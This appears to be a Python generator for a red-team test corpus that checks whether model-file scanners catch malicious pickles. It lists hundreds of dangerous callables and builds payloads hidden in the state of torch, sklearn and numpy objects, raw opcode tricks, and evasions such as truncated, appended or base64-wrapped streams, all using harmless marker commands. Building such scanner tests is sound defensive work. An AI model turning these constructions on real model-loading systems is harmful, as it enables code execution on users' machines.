"""What the test sets of public scanners and their advisories hold beyond the other families: gadgets of libraries, callables that are
only called later, names reached through allowed modules, and payloads that wait in the state of an honest object."""

import base64
import gzip
import io
import struct
import tarfile
import zipfile
import zlib

from assemble import *
from containers import legacy, npy, tarred, torch_zip, zipped

FILE = "modelgate-red-team-marker"
URL = "http://payload.invalid/stage"
ALIASES = """
random._os.system tempfile._os.system statistics.mean.__globals__ statistics.mean.__getattribute__ builtins.object.__subclasses__
collections.abc.sys.modules logging.os.system ast.sys.modules copy.copyreg.dispatch_table linecache.os.system
torch.os.system torch.serialization.os.system torch.utils.data.dataloader.os.system torch.nn.modules.module.functools.partial
numpy.os.system numpy.lib.npyio.os.system numpy.core.memmap.os.fspath numpy.core.numeric.sys.modules numpy.random._pickle.__builtins__
sklearn.utils.os.system sklearn.tree._classes.__builtins__ pandas.io.common.os.system pandas.core.frame.sys.modules scipy.sparse._base.__builtins__
joblib.numpy_pickle.os.system xgboost.core.os.system xgboost.core.ctypes.CDLL lightgbm.basic.ctypes.CDLL transformers.utils.os.system
six.moves.builtins.eval six.moves.getoutput botocore.vendored.six.moves.builtins.exec pkg_resources.extern.packaging.os pydantic._os.system
pathlib.os.system uuid.os.system datetime.sys.modules decimal.sys.modules fractions.operator.attrgetter enum.sys.modules re.functools.partial
collections._sys.modules _collections_abc.sys.modules typing.sys.modules inspect.os.system platform.subprocess.Popen ctypes._os.system
argparse._os.system gettext.os.system locale.functools.partial string._re.compile textwrap.re.compile heapq.doctest.debug_script
"""
CALLS = {
    "mailcap.findmatch": ({"text/plain": [{"view": "cat %s", "test": MARKER}]}, "text/plain", "view", FILE, []),
    "setuptools._distutils.spawn.spawn": (["true"],),
    "pipes.Template.open_r": (None, FILE),
    "typing._eval_type": (None, {}, None),
    "typing.get_type_hints": (None, {}, None),
    "dataclasses._create_fn": ("x", ["a=open('modelgate-red-team-marker','w')"], ["return int"]),
    "collections.namedtuple": ("X", ["a"]),
    "unittest.mock.Mock": (None, SYSTEM),
    "contextlib.ExitStack.callback": (None, SYSTEM, MARKER),
    "sched.scheduler.enter": (None, 0, 0, SYSTEM, (MARKER,)),
    "functools.cache": (SYSTEM,),
    "functools.lru_cache": (SYSTEM,),
    "functools.cached_property": (SYSTEM,),
    "builtins.property": (SYSTEM,),
    "builtins.classmethod": (SYSTEM,),
    "types.DynamicClassAttribute": (SYSTEM,),
    "types.coroutine": (SYSTEM,),
    "types.SimpleNamespace.__init__": (None,),
    "_tkinter.create": (),
    "_tkinter.TkappType.eval": (None, "exec true"),
    "_xxsubinterpreters.run_string": (0, PYTHON),
    "argparse.FileType": ("w",),
    "argparse.ArgumentParser": (),
    "logging.StreamHandler": (None,),
    "logging.Logger.warning": (None, "x"),
    "logging.makeLogRecord": ({"msg": "x"},),
    "inspect.getattr_static": (None, "x"),
    "gc.get_referents": (None,),
    "pkgutil.iter_importers": ("evilpkg.submodule",),
    "pkgutil.walk_packages": (["/tmp"],),
    "botocore.credentials.ProcessProvider._retrieve_credentials_using": (None, "true"),
    "anyio._backends._asyncio.AsyncIOBackend.run": (SYSTEM, (MARKER,), {}, {}),
    "click.edit": ("x",),
    "click.launch": (URL,),
    "execnet.makegateway": ("popen//python=true",),
    "fabric.Connection.local": (None, MARKER),
    "invoke.run": (MARKER,),
    "sh.Command": ("true",),
    "plumbum.local": (),
    "pexpect.spawn": ("true",),
    "pexpect.run": ("true",),
    "ptyprocess.PtyProcess.spawn": (["true"],),
    "psutil.Popen": (["true"],),
    "gevent.subprocess.Popen": (["true"],),
    "eventlet.green.subprocess.Popen": (["true"],),
    "celery.utils.imports.import_from_cwd": ("evil",),
    "werkzeug.utils.import_string": ("os:system",),
    "django.utils.module_loading.import_string": ("os.system",),
    "django.core.management.execute_from_command_line": (["x", "shell"],),
    "flask.cli.run_command": (),
    "jinja2.Environment.from_string": (None, "{{ x }}"),
    "jinja2.environment.Template": ("{{ cycler.__init__.__globals__.os.popen('true').read() }}",),
    "mako.template.Template": ("<% import os %>",),
    "tornado.template.Template": ("{% import os %}",),
    "sympy.parsing.sympy_parser.parse_expr": (PYTHON,),
    "sympy.core.sympify.sympify": (PYTHON,),
    "sympy.utilities.lambdify.lambdify": ((), PYTHON),
    "networkx.readwrite.gpickle.read_gpickle": (FILE,),
    "networkx.read_gpickle": (FILE,),
    "networkx.utils.decorators.argmap": (SYSTEM,),
    "IPython.core.interactiveshell.InteractiveShell.run_cell": (None, PYTHON),
    "IPython.utils.process.system": (MARKER,),
    "IPython.utils._process_posix.ProcessHandler.system": (None, MARKER),
    "IPython.start_ipython": (),
    "jedi.api.Interpreter": (PYTHON, []),
    "jedi.inference.compiled.subprocess._run": (),
    "parso.cache.load_module": (None, FILE),
    "pandas.eval": ("@__builtins__",),
    "pandas.core.computation.eval.eval": ("1",),
    "pandas.read_pickle": (FILE,),
    "pandas.io.pickle.read_pickle": (FILE,),
    "pandas.read_csv": (URL,),
    "pandas.io.clipboard.init_osx_pbcopy_clipboard": (),
    "pandas.io.sql.read_sql": ("x", "sqlite:///x"),
    "pandas.io.pytables.HDFStore": (FILE,),
    "pandas.util._print_versions.show_versions": (),
    "polars.read_csv": (URL,),
    "pyarrow.parquet.read_table": (FILE,),
    "pyarrow.serialization.deserialize": (b"x",),
    "dask.base.compute": (None,),
    "dask.utils.import_required": ("evil", "x"),
    "distributed.protocol.pickle.loads": (b"x",),
    "ray.cloudpickle.loads": (b"x",),
    "ray.init": (),
    "pyspark.serializers.CloudPickleSerializer.loads": (None, b"x"),
    "pyspark.cloudpickle.subimport": ("evil",),
    "mlflow.pyfunc.load_model": (FILE,),
    "mlflow.pyfunc._load_model_code_path": (FILE,),
    "mlflow.utils.process._exec_cmd": (["true"],),
    "wandb.init": (),
    "wandb.util.get_module": ("evil",),
    "comet_ml.Experiment": (),
    "huggingface_hub.hf_hub_download": ("x/y", "z"),
    "huggingface_hub.snapshot_download": ("x/y",),
    "transformers.AutoModel.from_pretrained": ("x/y",),
    "transformers.pipeline": ("text-generation", "x/y"),
    "transformers.dynamic_module_utils.get_class_from_dynamic_module": ("m.C", "x/y"),
    "transformers.utils.import_utils._LazyModule": ("a", "b", {}),
    "transformers.agents.python_interpreter.evaluate_python_code": (PYTHON,),
    "transformers.trainer_utils.get_last_checkpoint": (FILE,),
    "datasets.load_dataset": ("x/y",),
    "datasets.load.import_main_class": ("evil",),
    "datasets.utils.py_utils.dill.loads": (b"x",),
    "diffusers.DiffusionPipeline.from_pretrained": ("x/y",),
    "accelerate.utils.launch.prepare_simple_launcher_cmd_env": (None,),
    "accelerate.commands.launch.main": (),
    "peft.PeftModel.from_pretrained": ("x", "y"),
    "langchain.llms.loading.load_llm": (FILE,),
    "langchain_experimental.utilities.python.PythonREPL.run": (None, PYTHON),
    "langchain.utilities.bash.BashProcess.run": (None, MARKER),
    "llama_index.core.readers.download.download_loader": ("x",),
    "pytorch_lightning.LightningModule.load_from_checkpoint": (FILE,),
    "lightning_fabric.utilities.cloud_io._load": (FILE,),
    "fairseq.checkpoint_utils.load_checkpoint_to_cpu": (FILE,),
    "fairseq.utils.import_user_module": (None,),
    "detectron2.config.lazy.LazyConfig.load": (FILE,),
    "detectron2.utils.registry.locate": ("os.system",),
    "mmcv.Config.fromfile": (FILE,),
    "mmengine.config.Config.fromfile": (FILE,),
    "mmengine.utils.misc.import_modules_from_strings": (["evil"],),
    "hydra.utils.instantiate": ({"_target_": "os.system"},),
    "hydra._internal.utils._locate": ("os.system",),
    "omegaconf.OmegaConf.load": (FILE,),
    "omegaconf.OmegaConf.register_new_resolver": ("x", SYSTEM),
    "fire.Fire": (SYSTEM,),
    "fire.core.Fire": (SYSTEM, MARKER),
    "gdown.download": (URL, FILE),
    "wget.download": (URL,),
    "fsspec.open": (URL,),
    "fsspec.core.url_to_fs": (URL,),
    "smart_open.open": (URL,),
    "boto3.client": ("s3",),
    "tensorflow.keras.models.load_model": (FILE,),
    "tensorflow.io.read_file": (FILE,),
    "tensorflow.raw_ops.WriteFile": (FILE, "x"),
    "tensorflow.load_op_library": (FILE,),
    "tensorflow.py_function": (SYSTEM, [], None),
    "tensorflow.python.framework.load_library.load_op_library": (FILE,),
    "tensorflow.python.tools.saved_model_cli.preprocess_input_exprs_arg_string": ("x=" + PYTHON,),
    "keras.saving.saving_lib.load_model": (FILE,),
    "keras.src.saving.saving_lib._load_model_from_fileobj": (None, None, False, True),
    "keras.utils.get_file": (FILE, URL),
    "keras.src.utils.python_utils.func_load": ("x",),
    "keras.utils.generic_utils.func_load": ("x",),
    "keras.src.saving.serialization_lib.enable_unsafe_deserialization": (),
    "keras.config.enable_unsafe_deserialization": (),
    "keras.models.model_from_json": ("{}",),
    "keras.src.saving.serialization_lib.deserialize_keras_object": ({},),
    "jax.experimental.host_callback.call": (SYSTEM, MARKER),
    "jax.pure_callback": (SYSTEM, None, MARKER),
    "jax._src.xla_bridge.register_plugin": ("x",),
    "flax.serialization.from_bytes": (None, b"x"),
    "orbax.checkpoint.PyTreeCheckpointer.restore": (None, FILE),
    "onnxruntime.InferenceSession": (FILE,),
    "onnx.load_model": (FILE,),
    "onnx.reference.ReferenceEvaluator": (FILE,),
    "numba.core.serialize._rebuild_function": (b"x",),
    "numba.core.serialize._unpickle__CustomPickled": (b"x",),
    "numba.cfunc": ("x",),
    "numba.pycc.CC": ("x",),
    "cython.inline": ("x",),
    "Cython.Build.Inline.cython_inline": ("x",),
    "pyximport.install": (),
    "scipy.io.loadmat": (FILE,),
    "scipy.weave.inline": ("x",),
    "scipy.LowLevelCallable": (None,),
    "scipy._lib._ccallback.LowLevelCallable.from_cython": (None, "x"),
    "scipy.datasets.face": (),
    "sklearn.datasets.fetch_openml": ("x",),
    "sklearn.datasets.load_files": (FILE,),
    "sklearn.datasets.load_svmlight_file": (FILE,),
    "sklearn.utils.fixes.delayed": (SYSTEM,),
    "sklearn.utils._testing.assert_run_python_script": (PYTHON,),
    "sklearn.externals.joblib.load": (FILE,),
    "sklearn.externals.joblib.numpy_pickle.load": (FILE,),
    "statsmodels.iolib.smpickle.load_pickle": (FILE,),
    "statsmodels.datasets.get_rdataset": ("x",),
    "gensim.utils.unpickle": (FILE,),
    "gensim.models.Word2Vec.load": (FILE,),
    "nltk.data.load": (FILE,),
    "nltk.downloader.download": ("x",),
    "spacy.load": (FILE,),
    "spacy.cli.download": ("x",),
    "spacy.util.import_file": ("x", FILE),
    "spacy.util.run_command": (MARKER,),
    "srsly.pickle_loads": (b"x",),
    "thinc.api.registry.resolve": ({},),
    "catboost.CatBoost.load_model": (None, FILE),
    "lightgbm.Booster": (None, None, FILE),
    "xgboost.Booster": (None, None, FILE),
    "h5py.File": (FILE, "w"),
    "zarr.open": (FILE,),
    "PIL.Image.open": (FILE,),
    "PIL.ImageMath.eval": (PYTHON,),
    "PIL.ImageShow.show": (None,),
    "cv2.imread": (FILE,),
    "imageio.imread": (URL,),
    "matplotlib.pyplot.savefig": (FILE,),
    "matplotlib.animation.FFMpegWriter": (),
    "matplotlib.rcsetup._validate_color": (PYTHON,),
    "torchvision.io.read_image": (FILE,),
    "torchvision.datasets.utils.download_url": (URL, FILE),
    "torchvision.models.get_model": ("x",),
    "torchaudio.load": (FILE,),
    "torch.utils.data.datapipes.iter.utils.IterableWrapperIterDataPipe": ([1],),
    "torch.utils.data._utils.worker._worker_loop": (0,),
    "torch.utils._cxx_pytree.tree_map": (SYSTEM, [MARKER]),
    "torch.utils._triton.has_triton": (),
    "torch.utils.benchmark.Timer": (PYTHON,),
    "torch.utils.benchmark.utils.timer.Timer": (PYTHON,),
    "torch.utils.data.datapipes.dataframe.dataframes.CaptureF": (),
    "torch.utils.jit.log_extract.extract_ir": (FILE,),
    "torch.utils._content_store.ContentStoreReader": (FILE,),
    "torch.utils.weak.WeakRef": (SYSTEM,),
    "torch.utils._import_utils.dill_available": (),
    "torch._appdirs.user_data_dir": (),
    "torch._vmap_internals._vmap": (SYSTEM,),
    "torch._lazy.ts_backend.init": (),
    "torch._sources.parse_def": (SYSTEM,),
    "torch._jit_internal.createResolutionCallbackFromEnv": (SYSTEM,),
    "torch._library.custom_ops.custom_op": ("a::b", SYSTEM),
    "torch._ops.OpOverload.redispatch": (None,),
    "torch._ops._OpNamespace": ("aten",),
    "torch._classes._ClassNamespace": ("x",),
    "torch._deploy._load_storages": (1, None, None),
    "torch.jit._serialization.load": (FILE,),
    "torch.jit._pickle.restore_type_tag": (None, "x"),
    "torch.jit.frontend.get_jit_def": (SYSTEM, "x"),
    "torch.jit.CompilationUnit": (PYTHON,),
    "torch.jit.annotations.get_type_line": (PYTHON,),
    "torch.jit.annotations.parse_type_line": (PYTHON, None, None),
    "torch.fx.experimental.sym_node.method_to_operator": ("x",),
    "torch.fx.graph._PyTreeCodeGen": (),
    "torch.fx._lazy_graph_module._make_graph_module": (None,),
    "torch.fx.node._find_module_of_method": (SYSTEM,),
    "torch.fx.experimental.migrate_gradual_types.util.gen_tvar": (1,),
    "torch.ao.quantization.fx._decomposed._quantize": (),
    "torch.ao.quantization.utils._import_obj": ("os.system",),
    "torch.distributed.checkpoint.FileSystemReader": (FILE,),
    "torch.distributed.elastic.rendezvous.etcd_server.EtcdServer": (),
    "torch.distributed.elastic.utils.data.CyclingIterator": (1, SYSTEM),
    "torch.distributed.TCPStore": ("payload.invalid", 1, 1, False),
    "torch.distributed.FileStore": (FILE, 1),
    "torch.distributed.remote_device": ("x",),
    "torch.cuda.jiterator._create_jit_fn": ("x",),
    "torch.testing._internal.common_quantization.run_ddp": (0, 1, None),
    "torch.backends._nnapi.serializer.serialize_model": (None,),
    "torch.contrib._tensorboard_vis.parse": (None,),
    "caffe2.python.utils.debug": (SYSTEM,),
    "unsloth.FastLanguageModel.from_pretrained": ("x",),
    "vllm.LLM": (FILE,),
    "deepspeed.launcher.runner.main": (),
    "apex.amp.initialize": (None,),
    "triton.compiler.compile": (FILE,),
    "triton.runtime.build._build": ("x", FILE, FILE),
    "cupy.RawKernel": ("x", "y"),
    "cupy.RawModule": ("x",),
    "pycuda.compiler.SourceModule": ("x",),
    "zmq.Context": (),
    "redis.Redis": ("payload.invalid",),
    "pymongo.MongoClient": ("payload.invalid",),
    "sqlalchemy.create_engine": ("sqlite:///x",),
    "docker.from_env": (),
    "kubernetes.config.load_kube_config": (),
    "git.Repo.clone_from": (URL, FILE),
    "git.cmd.Git.execute": (None, ["true"]),
    "dulwich.porcelain.clone": (URL,),
    "pkg_resources.run_script": (FILE, "x"),
    "pkg_resources.load_entry_point": ("x", "y", "z"),
    "importlib_metadata.EntryPoint.load": (None,),
    "importlib.metadata.EntryPoint.load": (None,),
    "importlib.resources.path": ("evil", "x"),
    "nose.tools.trivial.eq_": (1, 1),
    "pytest.main": (["x"],),
    "_pytest.config.main": (["x"],),
    "tox.run.main": (),
    "IPython.lib.security.passwd": (),
    "notebook.auth.security.passwd_check": ("a", "b"),
    "ipykernel.kernelapp.launch_new_instance": (),
    "black.format_str": ("x",),
    "yapf.yapf_api.FormatCode": ("x",),
    "_pyrepl.pager.pipe_pager": ("x", MARKER),
    "_pyrepl.pager.tempfile_pager": ("x", MARKER),
    "_osx_support._read_output": (MARKER,),
    "_aix_support._read_cmd_output": (MARKER,),
    "uuid._popen": ("true",),
    "uuid._get_command_stdout": ("true",),
    "ctypes.util._findLib_gcc": ("x",),
    "platform._syscmd_file": (FILE,),
    "platform.popen": ("true",),
    "turtle.config_dict": (FILE,),
    "tkinter.Tcl": (),
    "tkinter.Misc.eval": (None, "exec true"),
    "curses.wrapper": (SYSTEM, MARKER),
    "cgi.FieldStorage": (),
    "cgitb.enable": (1, FILE),
    "wsgiref.simple_server.make_server": ("", 1, None),
    "http.server.test": (),
    "xmlrpc.server.SimpleXMLRPCServer": (("", 1),),
    "asyncore.file_dispatcher": (1,),
    "smtpd.DebuggingServer": (("", 1), ("", 1)),
    "modulefinder.ModuleFinder.run_script": (None, FILE),
    "tabnanny.check": (FILE,),
    "pyclbr.readmodule": ("evil",),
    "symtable.symtable": ("x", "x", "exec"),
    "tracemalloc.Snapshot.load": (FILE,),
    "pstats.Stats": (FILE,),
    "hotshot.stats.load": (FILE,),
    "xdrlib.Unpacker": (b"x",),
    "email.mime.audio.MIMEAudio": (b"x",),
    "mimetypes.init": ([FILE],),
    "readline.read_init_file": (FILE,),
    "rlcompleter.Completer.attr_matches": (None, PYTHON + ".x"),
    "nturl2path.url2pathname": ("x",),
    "crypt.crypt": ("x",),
    "spwd.getspall": (),
    "resource.setrlimit": (1, (1, 1)),
    "fcntl.ioctl": (0, 1),
    "termios.tcgetattr": (0,),
    "syslog.syslog": ("x",),
    "msvcrt.getch": (),
    "winreg.SetValue": (1, "x", 1, "y"),
    "_winapi.CreateProcess": (None, "calc"),
    "nt.system": ("calc",),
    "win32api.ShellExecute": (0, "open", "calc", None, None, 1),
    "_testcapi.run_in_subinterp": (PYTHON,),
    "_testinternalcapi.run_in_subinterp_with_config": (PYTHON,),
    "_interpreters.exec": (0, PYTHON),
    "concurrent.interpreters.create": (),
    "string.Formatter.vformat": (None, "{0.x}", (), {}),
    "string.Template.substitute": (None,),
    "builtins.str.format": ("{0.__class__}", 1),
    "builtins.str.format_map": ("{x.__class__}", {}),
    "builtins.dict.get": ({}, "x"),
    "builtins.next": (None,),
    "operator.setitem": ({}, 1, 2),
    "operator.iadd": ([], []),
    "operator.neg": (1,),
    "builtins.sum": ([SYSTEM], 1),
    "heapq.merge": ([1],),
    "bisect.insort": ([1], 1, 0, 1),
    "queue.Queue.put": (None, 1),
    "weakref.WeakMethod": (SYSTEM,),
    "weakref.ref": (None, SYSTEM),
    "copyreg.pickle": (None, SYSTEM),
    "copyreg.constructor": (SYSTEM,),
    "copyreg.add_extension": ("os", "system", 1),
    "copy._deepcopy_dispatch.update": ({},),
    "abc.ABCMeta": ("X", (), {}),
    "enum.EnumMeta": ("X", (), {}),
    "typing.NamedTuple": ("X", []),
    "warnings.showwarning": ("x", None, FILE, 1),
    "sys.displayhook": (1,),
    "sys.excepthook": (None, None, None),
    "sys.addaudithook": (SYSTEM,),
    "sys.meta_path.append": (None,),
    "sys.path.insert": (0, "/tmp"),
    "os.environ.update": ({"LD_PRELOAD": FILE},),
    "os.environ.__setitem__": ("PYTHONSTARTUP", FILE),
    "threading.settrace": (SYSTEM,),
    "faulthandler.enable": (),
    "site.addpackage": ("/tmp", "x.pth", None),
    "sysconfig._init_posix": ({},),
    "sysconfig.parse_config_h": (None,),
    "_sysconfigdata.build_time_vars.update": ({},),
    "fickling.hook.deactivate_safe_ml_environment": (),
    "picklescan.scanner.scan_pickle_bytes": (b"x", "x"),
    "modelscan.modelscan.ModelScan": (),
}


def dotted(full, how):
    parts = full.split(".")
    cut = next((at for at in range(1, len(parts)) if parts[at][:1].isupper() or parts[at] in ("path", "meta_path", "environ")), len(parts) - 1)
    cut = cut if cut < len(parts) else len(parts) - 1
    return (stacked if how else name)(".".join(parts[:cut]), ".".join(parts[cut:]))


def module_called(full):
    """`module.attribute` with the last two names or more behind the module, as a dotted name of protocol 4 has them."""
    head, *rest = full.split(".")
    return stacked(head, ".".join(rest))


def tensor(size=2):
    storage = Raw(literal(("storage", name("torch", "FloatStorage"), "0", "cpu", size)) + b"Q")
    return call(name("torch._utils", "_rebuild_tensor_v2"), storage, 0, (size,), (1,), False, call(name("collections", "OrderedDict")))


def states():
    """Payloads that wait in what an honest loader builds."""
    relu = lambda state: build(new(name("torch.nn.modules.activation", "ReLU")), state)
    lr = lambda state: build(new(name("sklearn.linear_model._logistic", "LogisticRegression")), state)
    pipe = lambda step: build(new(name("sklearn.pipeline", "Pipeline")), {"steps": [("a", step)], "memory": None})
    yield "optimizer-hook", {"state_dict": {"w": tensor()}, "optimizer": {"_optimizer_step_pre_hooks": {0: SYSTEM}}}
    yield "module-forward-replaced", relu({"training": False, "forward": SYSTEM, "_modules": {}})
    yield "module-forward-partial", relu({"training": False, "forward": call(name("functools", "partial"), name("os", "system"), MARKER)})
    yield "module-class-replaced", relu({"__class__": name("subprocess", "Popen")})
    yield "module-call-impl", relu({"_call_impl": name("builtins", "exec")})
    yield "estimator-predict-replaced", lr({"predict": SYSTEM})
    yield "estimator-getstate", lr({"__getstate__": SYSTEM, "coef_": 1})
    yield "pipeline-of-call", pipe(RUN)
    yield "pipeline-function-transformer", pipe(build(new(name("sklearn.preprocessing._function_transformer", "FunctionTransformer")), {"func": name("os", "system")}))
    yield "pipeline-function-eval", pipe(build(new(name("sklearn.preprocessing._function_transformer", "FunctionTransformer")), {"func": name("builtins", "eval"), "inverse_func": None}))
    yield "pipeline-memory-evil", build(new(name("sklearn.pipeline", "Pipeline")), {"steps": [], "memory": call(name("joblib.memory", "Memory"), "/tmp/x")})
    yield "tfidf-tokenizer", build(new(name("sklearn.feature_extraction.text", "TfidfVectorizer")), {"tokenizer": name("os", "system")})
    yield "tfidf-preprocessor-eval", build(new(name("sklearn.feature_extraction.text", "TfidfVectorizer")), {"preprocessor": name("builtins", "eval")})
    yield "kernel-callable", build(new(name("sklearn.svm._classes", "SVC")), {"kernel": name("builtins", "exec")})
    yield "dataframe-of-call", call(name("pandas.core.frame", "DataFrame"), call(name("os", "popen"), MARKER))
    yield "tensor-setitems", Raw(literal(tensor()) + b"(" + literal(RUN) + literal(1) + b"u")
    yield "ordered-dict-of-call", call(name("collections", "OrderedDict"), [("a", RUN)])
    yield "counter-update", call(stacked("collections", "Counter.update"), call(name("collections", "Counter")), {"a": RUN})
    yield "namespace-of-exec", build(call(name("argparse", "Namespace")), {"lr": 0.1, "fn": call(name("builtins", "eval"), PYTHON)})
    yield "training-arguments-of-system", build(new(name("transformers.training_args", "TrainingArguments")), {"output_dir": "x", "_hook": RUN})
    yield "numpy-object-array", build(call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), (0,), b"b"), (1, (1,), call(name("numpy", "dtype"), "O8", 0, 1), False, [RUN]))
    yield "numpy2-object-array", build(call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), (0,), b"b"), (1, (1,), call(name("numpy", "dtype"), "O8", False, True), False, [RUN]))
    yield "numpy-scalar-object", call(name("numpy.core.multiarray", "scalar"), call(name("numpy", "dtype"), "O8", 0, 1), HOSTILE)
    yield "numpy-dtype-metadata", build(call(name("numpy", "dtype"), "f4", 0, 1), (3, "<", None, None, None, -1, -1, 0, {"x": RUN}))
    yield "random-state-by-name", call(name("numpy.random._pickle", "__randomstate_ctor"), "../evil")
    yield "bit-generator-callable", call(name("numpy.random._pickle", "__generator_ctor"), SYSTEM, MARKER)
    yield "storage-from-bytes", call(name("torch.storage", "_load_from_bytes"), torch_zip(HOSTILE))
    yield "storage-from-legacy", call(name("torch.storage", "_load_from_bytes"), legacy(HOSTILE))
    yield "storage-from-compressed", call(name("torch.storage", "_load_from_bytes"), call(name("zlib", "decompress"), zlib.compress(HOSTILE)))
    yield "rebuild-with-hooks", call(name("torch._utils", "_rebuild_parameter_with_state"), tensor(), True, {0: SYSTEM}, {"x": RUN})
    yield "device-of-exec", call(name("torch", "device"), call(name("builtins", "exec"), PYTHON))
    yield "persistent-id-of-call", Raw(literal(("storage", RUN, "0", "cpu", 1)) + b"Q")
    yield "persistent-id-of-module", Raw(literal(("module", name("os", "system"), "x.py", "source")) + b"Q")
    yield "datetime-of-call", call(name("datetime", "datetime"), RUN)
    yield "path-of-call", call(name("pathlib", "PosixPath"), RUN)
    yield "exception-of-call", call(name("builtins", "KeyError"), RUN)
    yield "slice-of-call", call(name("builtins", "slice"), RUN)
    yield "getattr-of-allowed", call(call(name("builtins", "getattr"), name("torch.nn.modules.linear", "Linear"), "__init__.__globals__"), "x")
    yield "getattr-of-enum", call(name("builtins", "getattr"), name("numpy", "os"), "system")
    yield "ctypes-of-numpy", call(name("numpy.core._internal", "_ctypes"), SYSTEM)
    yield "wandb-lazy", build(new(name("wandb.sdk.lib.lazyloader", "LazyLoader")), {"_local_name": "x", "__name__": "os"})
    yield "lightning-callback", {"callbacks": {"x": build(new(name("pytorch_lightning.callbacks.lambda_function", "LambdaCallback")), {"on_train_start": SYSTEM})}}
    yield "ultralytics-evil-module", {"model": build(new(name("ultralytics.nn.tasks", "DetectionModel")), {"forward": name("os", "system")})}
    yield "yolov5-exec-attempt", {"model": build(new(name("models.yolo", "Model")), {"x": call(name("builtins", "exec"), PYTHON)})}
    yield "lambda-of-marshal", call(name("types", "FunctionType"), call(name("marshal", "loads"), b"\xe3"), {})
    yield "dill-lambda", call(name("dill._dill", "_create_function"), call(name("dill._dill", "_create_code"), b"", 0, 0, 0, 0, 2, 3, b"d\x01S\x00", (None, MARKER), ("os", "system"), (), "x", "<lambda>", "<lambda>", 1, b"", b"", (), ()), {}, None, None)
    yield "cloudpickle-class", call(name("cloudpickle.cloudpickle", "_class_setstate"), call(name("cloudpickle.cloudpickle", "_make_skeleton_class"), name("builtins", "type"), "X", (), {}, "id", None), ({"__init__": SYSTEM}, {}))
    yield "memory-file-name", build(new(name("numpy", "memmap")), {"filename": "/etc/passwd", "mode": "w+"})
    yield "generator-of-system", call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, (MARKER,)))
    yield "iter-sentinel", call(name("builtins", "tuple"), call(name("builtins", "iter"), SYSTEM, 0))
    yield "zip-of-map", call(name("builtins", "dict"), call(name("builtins", "zip"), [1], call(name("builtins", "map"), SYSTEM, [MARKER])))
    yield "bytes-of-map", call(name("builtins", "bytearray"), call(name("builtins", "map"), SYSTEM, [MARKER]))
    yield "ordered-dict-of-map", call(name("collections", "OrderedDict"), call(name("builtins", "map"), SYSTEM, [MARKER]))
    yield "array-of-map", call(name("array", "array"), "b", call(name("builtins", "map"), SYSTEM, [MARKER]))
    yield "property-descriptor", call(stacked("builtins", "property.__get__"), call(name("builtins", "property"), SYSTEM), MARKER)
    yield "type-with-slots", call(call(name("builtins", "type"), "X", (name("collections", "OrderedDict"),), {"__setitem__": SYSTEM}))
    yield "type-reduce-ex", build(call(name("builtins", "type"), "X", (), {"__setstate__": SYSTEM}), MARKER)
    yield "set-state-on-function", build(name("torch.nn.functional", "relu"), {"__code__": call(name("marshal", "loads"), b"x")})
    yield "set-state-on-class", build(name("torch.nn.modules.linear", "Linear"), {"forward": SYSTEM})
    yield "set-state-on-module", build(name("torch", "nn"), {"Linear": name("subprocess", "Popen")})
    yield "set-state-on-builtins", build(name("builtins", "__dict__"), {"print": SYSTEM})
    yield "set-state-on-ordered-dict-class", build(name("collections", "OrderedDict"), (None, {"__setitem__": SYSTEM}))
    yield "set-item-on-modules", Raw(literal(name("sys", "modules")) + literal("torch") + literal(name("os", "system")) + b"s")
    yield "append-to-path", Raw(literal(name("sys", "path")) + literal("/tmp/evil") + b"a")
    yield "append-to-callable", Raw(literal(build(new(name("collections", "UserList")), {"append": SYSTEM})) + literal(MARKER) + b"a")
    yield "add-items-to-evil", Raw(literal(build(new(name("collections", "UserDict")), {"add": SYSTEM})) + b"(" + literal(MARKER) + b"\x90")
    yield "extension-registered", Raw(literal(call(name("copyreg", "add_extension"), "os", "system", 240)) + b"0\x82\xf0" + literal((MARKER,)) + b"R")
    yield "extension-unregistered", Raw(b"\x82\x07" + literal((MARKER,)) + b"R")
    yield "memo-swap", Raw(literal("collections") + b"q\x000" + literal("os") + b"q\x000" + literal("system") + b"q\x010h\x00h\x01\x93" + literal((MARKER,)) + b"R")
    yield "deep-in-state", {"a": [{"b": ({"c": [RUN]},)}], "w": tensor()}
    yield "in-dictionary-key", Raw(b"}" + literal(RUN) + literal(1) + b"s")
    yield "unused-then-popped", then(RUN, STATE)
    yield "marked-and-popped", Raw(b"(" + literal(RUN) + b"1" + literal(STATE))


def broken():
    whole = HOSTILE
    for at in (1, 2, 5, 9):
        yield f"cut-{at}.pkl", whole[:-at]
    yield "no-stop.pkl", whole[:-1]
    yield "junk-behind.pkl", whole + b"\xff" * 40
    yield "bad-opcode.pkl", whole[:-1] + b"\xfe."
    yield "stack-underflow.pkl", whole[:-1] + b"00000."
    yield "unknown-protocol.pkl", b"\x80\x09" + whole[2:]
    yield "invalid-utf8.pkl", whole[:-1] + b"\x8c\x02\xff\xfe0."
    yield "negative-length.pkl", whole[:-1] + b"\x8b\xff\xff\xff\xff."
    yield "reduce-twice.pkl", whole[:-1] + b"R."
    yield "raise-after.pkl", pickle(then(RUN, call(name("builtins", "int"), "x")))
    yield "raise-missing-module.pkl", pickle(then(RUN, call(name("no_such_module", "x"))))
    yield "frame-too-long.pkl", b"\x80\x04\x95\xff\x00\x00\x00\x00\x00\x00\x00" + whole[2:]
    yield "frame-too-short.pkl", b"\x80\x04\x95\x01\x00\x00\x00\x00\x00\x00\x00" + whole[2:]
    yield "newline-before.pkl", b"\n" + whole
    yield "text-before.pkl", b"# model weights\n" + whole
    yield "zeroes-before.pkl", bytes(512) + whole
    yield "second-stream.pkl", HONEST + whole
    yield "tenth-stream.pkl", HONEST * 9 + whole
    yield "second-after-newline.pkl", HONEST + b"\n\n" + whole
    yield "second-after-padding.pkl", HONEST + bytes(4096) + whole
    yield "cut-second.pkl", HONEST + whole[:-3]
    yield "protocol-0-second.pkl", HONEST + b"cposix\nsystem\n(S'true'\ntR."


def nested():
    for title, wrapped in {
        "base64": base64.b64encode(HOSTILE), "base85": base64.b85encode(HOSTILE), "hex": HOSTILE.hex().encode(), "zlib": zlib.compress(HOSTILE), "gzip": gzip.compress(HOSTILE), "twice": pickle(HOSTILE), "reversed-base64": base64.b64encode(gzip.compress(HOSTILE))}.items():
        yield f"loads-{title}.pkl", pickle(call(name("pickle", "loads"), wrapped))
